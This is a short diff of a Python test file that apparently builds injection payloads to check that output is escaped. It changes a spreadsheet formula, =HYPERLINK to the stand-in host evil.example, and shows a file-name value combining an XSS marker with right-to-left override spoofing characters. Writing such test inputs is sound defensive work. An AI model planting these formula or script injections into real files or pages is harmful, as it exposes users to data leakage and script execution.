@@ -19,7 +19,7 @@ PAYLOAD = (
 )
 
 #: The same for places that name a group or a column: a formula first.
-FORMULA = '=HYPERLINK("https://evil.example/{0}";"x")<img src=x onerror=window.ran={0}> H{0:02d}E'
+FORMULA = f'=HYPERLINK("https://evil.example/{{0}}";"x") {PAYLOAD}'
 
 #: The same for the name of a file, as far as file names and contracts allow.
 FILE = "=1+1 <img src=x onerror=window.ran={0}>\"'&<b> \u202egnp\u202c H{0:02d}E"
